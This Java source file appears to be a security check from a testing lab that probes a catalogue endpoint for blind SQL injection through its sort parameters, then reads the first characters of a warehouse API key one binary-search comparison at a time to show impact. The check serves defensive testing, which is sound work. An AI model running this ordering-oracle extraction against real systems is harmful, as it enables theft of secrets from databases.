package checks;

import dev.fixpoint.lab.Check;
import dev.fixpoint.lab.CheckContext;
import dev.fixpoint.lab.CheckResult;
import dev.fixpoint.lab.check.Reply;

import java.util.List;
import java.util.Optional;

/**
 * A blind injection through the ordering alone. The {@code sort} and {@code dir} params (payload-expanded) hold an ORDER
 * BY expression whose result depends on a condition about a character of the warehouse's API key:
 * {@code {pos}} is replaced by the character's position and {@code {probe}} by a character the condition compares it
 * with (the key's character is at least the probe). A condition that is always true and one that is always false must
 * give the same order, or the catalogue's order answers questions about data it never shows; the check then reads the
 * key's first characters one comparison at a time, as an attacker would, to show how far it goes.
 */
public class OrderingOracle implements Check {

    private static final char ALWAYS_TRUE = '0';
    private static final char ALWAYS_FALSE = '{';
    private static final char LOWEST = '0';
    private static final char HIGHEST = 'z';
    private static final int EXTRACTED = 3;

    @Override
    public CheckResult run(CheckContext context) {
        Catalogue catalogue = new Catalogue(context);
        String endpoint = context.params().getOrDefault("endpoint", Catalogue.LIST);
        String sort = context.params().containsKey("sort") ? context.payload("sort") : null;
        String dir = context.params().containsKey("dir") ? context.payload("dir") : null;
        Probe probe = (position, character) -> Catalogue.ids(catalogue.sorted(endpoint,
                fill(sort, position, character), fill(dir, position, character)).send());

        Optional<List<Long>> whenTrue = probe.order(1, ALWAYS_TRUE);
        Optional<List<Long>> whenFalse = probe.order(1, ALWAYS_FALSE);
        if (whenTrue.isEmpty() || whenFalse.isEmpty() || whenTrue.get().equals(whenFalse.get())) {
            return CheckResult.pass("The injected condition did not change the order of the " + endpoint + " answer.");
        }

        String secret = context.secret("warehouse-api-key");
        StringBuilder read = new StringBuilder();
        for (int position = 1; position <= EXTRACTED; position++) {
            char low = LOWEST;
            char high = HIGHEST;
            while (low < high) {
                char middle = (char) ((low + high + 1) / 2);
                Optional<List<Long>> order = probe.order(position, middle);
                if (order.equals(whenTrue)) {
                    low = middle;
                } else if (order.equals(whenFalse)) {
                    high = (char) (middle - 1);
                } else {
                    return injected(endpoint);
                }
            }
            read.append(low);
        }
        if (read.toString().equals(secret.substring(0, EXTRACTED))) {
            return CheckResult.fail("The sort parameters of " + endpoint + " are pasted into the SQL: ordering by a CASE WHEN"
                    + " on the warehouse's API key, " + (EXTRACTED * 7 + 2) + " requests read its first characters, "
                    + read + "..., from the order of the products alone.");
        }
        return injected(endpoint);
    }

    private static CheckResult injected(String endpoint) {
        return CheckResult.fail("The sort parameters of " + endpoint + " are pasted into the SQL: a condition injected into the"
                + " ORDER BY about data the catalogue never shows changed the order of its answer.");
    }

    private static String fill(String template, int position, char character) {
        return template == null ? null
                : template.replace("{pos}", Integer.toString(position)).replace("{probe}", Character.toString(character));
    }

    private interface Probe {
        Optional<List<Long>> order(int position, char character);
    }
}
